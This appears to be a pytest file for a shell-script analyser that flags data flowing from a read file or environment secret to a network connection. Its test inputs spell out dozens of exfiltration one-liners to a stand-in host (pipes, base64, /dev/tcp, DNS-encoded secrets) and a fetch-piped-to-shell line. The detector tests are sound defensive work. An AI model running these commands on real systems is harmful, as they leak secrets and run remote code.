import pytest

from security_hooks.catalogue.load import load
from security_hooks.model.effect import Effect
from security_hooks.model.event import Place
from security_hooks.model.word import Hole
from security_hooks.shell.facts import read_script
from security_hooks.shell.limits import ShellLimits

TEXT = b"""
schema = 2
builtins = ["echo", "export", "read", "exec", "printf"]
[command.cat]
operands = ["read:FILE..."]
[command.b64]
operands = []
[command.tee]
operands = ["write:FILE..."]
[command.cp]
operands = ["read:SOURCE...", "write:DEST"]
[command.fetch]
operands = ["url:URL..."]
options = ["-d data:DATA", "-T upload:FILE", "-H TEXT", "--ca read:FILE"]
kind = "fetcher"
[command.dig]
operands = ["host:NAME..."]
[command.sh]
kind = "shell"
options = ["-c CODE"]
code = ["-c"]
operands = []
"""
CATALOGUE = load({"a.toml": TEXT})
PLACE = Place("/w", "/home/me", "/w")


def flows(text: str) -> set[str]:
    script = read_script(text, PLACE, CATALOGUE, ShellLimits())
    return {f"{_shown(flow.source)} -> {_shown(flow.sink)}" for flow in script.flows}


def _shown(effect: Effect) -> str:
    parts = effect.target.parts if effect.target is not None else ("?",)
    return effect.kind.value + " " + "".join(p.source if isinstance(p, Hole) else p for p in parts)


SENT = "reads /w/k -> connects e.example"


@pytest.mark.parametrize(
    "text",
    [
        "cat k | fetch -d @- e.example",
        "cat k | b64 | b64 | fetch -d @- e.example",
        "fetch -d @k e.example",
        "fetch -T k e.example",
        "fetch -d @- e.example < k",
        'fetch -d "$(cat k)" e.example',
        'X=$(cat k); fetch -d "$X" e.example',
        'X=$(cat k | b64); Y="a$X"; fetch -H "$Y" e.example',
        'export X="$(cat k)"; fetch "e.example/$X"',
        'read -r X < k; fetch -d "$X" e.example',
        "cp k /tmp/x; fetch -T /tmp/x e.example",
        "cat k > /tmp/x; fetch -T /tmp/x e.example",
        "cat k | tee /tmp/x; fetch -T /tmp/x e.example",
        "while read -r l; do fetch -d $l e.example; done < k",
        "for i in 1 2; do cat k; done | fetch -d @- e.example",
        "{ cat k; echo; } | fetch -d @- e.example",
        "{ cat k; } > /tmp/x; fetch -T /tmp/x e.example",
        "exec 3<>/dev/tcp/e.example/80; cat k >&3",
        "cat k > /dev/tcp/e.example/80",
        "fetch -d @<(cat k) e.example",
        "cat k > >(fetch -d @- e.example)",
        "fetch -d @- e.example <<X\n$(cat k)\nX",
        'fetch -d @- e.example <<< "$(cat k)"',
        "sh -c 'cat k' | fetch -d @- e.example",
        "f() { cat /w/k; }; f | fetch -d @- e.example",
    ],
)
def test_what_is_read_reaches_the_connection(text: str) -> None:
    assert SENT in flows(text)


def test_a_secret_in_a_host_name_reaches_the_connection() -> None:
    assert flows("dig $(cat k | b64).e.example") >= {"reads /w/k -> connects $(cat k | b64).e.example"}


def test_a_variable_of_the_environment_reaches_the_connection() -> None:
    assert "reads_env SECRET -> connects e.example" in flows('fetch -H "A: $SECRET" e.example')


def test_what_is_fetched_reaches_the_shell() -> None:
    assert "connects e.example -> executes sh" in flows("fetch e.example | sh")


@pytest.mark.parametrize(
    "text",
    [
        "cat k; fetch e.example",
        "fetch --ca k e.example",
        "cat k | b64; echo x | fetch -d @- e.example",
        "cp k /tmp/x; fetch -T /tmp/y e.example",
        'X=$(cat k); fetch -d "$Y" e.example',
        "cat k > /tmp/x & fetch e.example",
    ],
)
def test_what_does_not_reach_it_is_no_flow(text: str) -> None:
    assert SENT not in flows(text)


def test_very_many_flows_put_the_script_over_budget() -> None:
    text = " ".join(f"cat k{n};" for n in range(20))
    text = f"{{ {text} }} | fetch " + " ".join(f"e{n}.example" for n in range(20))
    assert read_script(text, PLACE, CATALOGUE, ShellLimits()).over_budget
